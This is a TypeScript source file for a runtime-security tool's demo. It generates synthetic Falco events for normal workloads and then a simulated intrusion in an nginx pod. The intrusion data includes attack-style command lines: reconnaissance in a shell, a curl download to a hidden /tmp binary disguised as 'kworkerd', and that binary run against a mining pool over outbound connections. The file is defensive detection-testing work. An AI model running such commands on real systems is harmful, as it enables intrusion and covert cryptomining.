// The bundled demo for `vigil dev` when no Falco runs: a shop front (Deployment), its database
// (StatefulSet) and a CronJob learn their baselines, then an intruder gets a shell in the shop
// front, downloads a tool, drops a binary in /tmp and calls out. Events are Falco gRPC responses
// with the fields of rules/falco/vigil_rules.yaml, stamped with the current time, fed through a
// Falco-compatible server so they take the path production events take.
import type { OutputsResponse } from '../../proto/falco-services.js';

interface Proc {
  readonly exe: string;
  readonly cmdline: string;
  readonly parent: string;
  readonly user?: string;
  readonly upper?: boolean;
}

interface Pod {
  readonly namespace: string;
  readonly pod: string;
  readonly container: string;
  readonly containerId: string;
  /** container.start_ts, ms since the epoch (Falco sends ns; see startTs). */
  readonly startedMs: number;
  readonly image: string;
  readonly labels: Record<string, string>;
}

const NODE = 'demo-node-1';

// The shop front and its database were already running when the demo started: their containers
// started hours earlier, so none of the demo's events falls in a container's start-up (where the
// intrusion could pass for start-up activity).
const DEMO_START_MS = Date.now();
const HOUR_MS = 3_600_000;

const storefront: Pod = { namespace: 'shop', pod: 'storefront-6c9f7d8b5-k2x9p', container: 'nginx', containerId: 'd3m0a1b2c3d4', startedMs: DEMO_START_MS - 3 * HOUR_MS, image: 'docker.io/library/nginx', labels: { 'pod-template-hash': '6c9f7d8b5' } };
const database: Pod = { namespace: 'shop', pod: 'orders-db-0', container: 'postgres', containerId: 'd3m0e5f6a7b8', startedMs: DEMO_START_MS - 26 * HOUR_MS, image: 'docker.io/library/postgres', labels: { 'statefulset.kubernetes.io/pod-name': 'orders-db-0', 'controller-revision-hash': 'orders-db-7f8d9c' } };
function reportJob(): Pod {
  const minute = Math.floor(Date.now() / 60_000);
  // One Job (and container) per minute, started at that minute: never after the events stamped now.
  return { namespace: 'batch', pod: `nightly-report-${minute}-q7w2n`, container: 'report', containerId: `d3m0c${minute % 100_000}`, startedMs: minute * 60_000, image: 'registry.example/report', labels: { 'job-name': `nightly-report-${minute}` } };
}

function fields(pod: Pod, evtType: string): Record<string, string> {
  const label = (k: string): string => pod.labels[k] ?? '<NA>';
  return {
    'evt.type': evtType,
    'evt.res': 'SUCCESS',
    'container.id': pod.containerId,
    'container.start_ts': startTs(pod),
    'container.name': pod.container,
    'container.image.repository': pod.image,
    'container.image.tag': 'demo',
    'container.image.digest': '<NA>',
    'k8s.ns.name': pod.namespace,
    'k8s.pod.name': pod.pod,
    'k8s.pod.uid': '<NA>',
    'k8s.pod.label[pod-template-hash]': label('pod-template-hash'),
    'k8s.pod.label[statefulset.kubernetes.io/pod-name]': label('statefulset.kubernetes.io/pod-name'),
    'k8s.pod.label[controller-revision-hash]': label('controller-revision-hash'),
    'k8s.pod.label[pod-template-generation]': '<NA>',
    'k8s.pod.label[job-name]': label('job-name'),
  };
}

/** gRPC output_fields carry container.start_ts as decimal nanoseconds. */
function startTs(pod: Pod): string {
  return (BigInt(pod.startedMs) * 1_000_000n).toString();
}

function stamp(): { seconds: number; nanos: number } {
  const ms = Date.now();
  return { seconds: Math.floor(ms / 1000), nanos: (ms % 1000) * 1_000_000 };
}

function exec(pod: Pod, p: Proc): OutputsResponse {
  return {
    time: stamp(),
    priority: 6,
    rule: 'Vigil process exec',
    output: `exec exe=${p.exe} cmdline=${p.cmdline} pod=${pod.pod}`,
    hostname: NODE,
    source: 'syscall',
    tags: ['process', 'vigil'],
    output_fields: {
      ...fields(pod, 'execve'),
      'proc.exepath': p.exe,
      'proc.name': p.exe.slice(p.exe.lastIndexOf('/') + 1),
      'proc.cmdline': p.cmdline,
      'proc.pexepath': p.parent,
      'proc.pname': p.parent.slice(p.parent.lastIndexOf('/') + 1),
      'proc.pid': String(1000 + Math.floor(Math.random() * 30000)),
      'user.name': p.user ?? 'root',
      'user.uid': p.user ? '1000' : '0',
      'proc.is_exe_upper_layer': p.upper ? 'true' : 'false',
    },
  };
}

function connect(pod: Pod, exe: string, peer: string, port: number, proto = 'tcp'): OutputsResponse {
  const base = exec(pod, { exe, cmdline: exe, parent: '/usr/sbin/nginx' });
  return {
    ...base,
    rule: 'Vigil outbound connect',
    tags: ['network', 'vigil'],
    output: `connect ${exe} -> ${peer}:${port}`,
    output_fields: { ...base.output_fields, ...fields(pod, 'connect'), 'fd.l4proto': proto, 'fd.rip': peer, 'fd.rport': String(port), 'fd.lip': '10.244.0.17', 'fd.lport': '48122', 'fd.sip.name': '<NA>' },
  };
}

function accept(pod: Pod, exe: string, port: number): OutputsResponse {
  const base = exec(pod, { exe, cmdline: exe, parent: '/sbin/init' });
  return {
    ...base,
    rule: 'Vigil inbound accept',
    tags: ['network', 'vigil'],
    output: `accept ${exe} :${port}`,
    output_fields: { ...base.output_fields, ...fields(pod, 'accept4'), 'fd.l4proto': 'tcp', 'fd.rip': '10.244.1.9', 'fd.rport': '51514', 'fd.lip': '10.244.0.17', 'fd.lport': String(port), 'fd.sip.name': '<NA>' },
  };
}

/** What normal operation looks like, one round. */
export function normalRound(): OutputsResponse[] {
  const job = reportJob();
  return [
    exec(storefront, { exe: '/docker-entrypoint.sh', cmdline: '/docker-entrypoint.sh nginx -g daemon off;', parent: '/usr/bin/containerd-shim-runc-v2' }),
    exec(storefront, { exe: '/usr/sbin/nginx', cmdline: 'nginx -g daemon off;', parent: '/docker-entrypoint.sh' }),
    accept(storefront, '/usr/sbin/nginx', 80),
    connect(storefront, '/usr/sbin/nginx', '10.96.0.20', 5432),
    exec(database, { exe: '/usr/local/bin/postgres', cmdline: 'postgres', parent: '/usr/local/bin/docker-entrypoint.sh', user: 'postgres' }),
    exec(database, { exe: '/usr/bin/pg_isready', cmdline: 'pg_isready -U postgres', parent: '/usr/bin/runc', user: 'postgres' }),
    accept(database, '/usr/local/bin/postgres', 5432),
    exec(job, { exe: '/usr/local/bin/python3.12', cmdline: 'python3 /app/report.py --nightly', parent: '/bin/sh', user: 'app' }),
    connect(job, '/usr/local/bin/python3.12', '10.96.0.20', 5432),
  ];
}

/** The intrusion in the shop front, after the baselines locked. */
export function intrusion(): OutputsResponse[] {
  return [
    exec(storefront, { exe: '/bin/sh', cmdline: 'sh -c id; uname -a', parent: '/usr/sbin/nginx', user: 'www-data' }),
    exec(storefront, { exe: '/usr/bin/curl', cmdline: 'curl -fsSL http://203.0.113.50/x -o /tmp/.x/kworkerd', parent: '/bin/sh', user: 'www-data' }),
    connect(storefront, '/usr/bin/curl', '203.0.113.50', 80),
    exec(storefront, { exe: '/tmp/.x/kworkerd', cmdline: '/tmp/.x/kworkerd -o pool.example:3333', parent: '/bin/sh', user: 'www-data', upper: true }),
    connect(storefront, '/tmp/.x/kworkerd', '198.51.100.7', 3333),
  ];
}

export const DEMO_WORKLOADS = ['shop/Deployment/storefront', 'shop/StatefulSet/orders-db', 'batch/CronJob/nightly-report'];
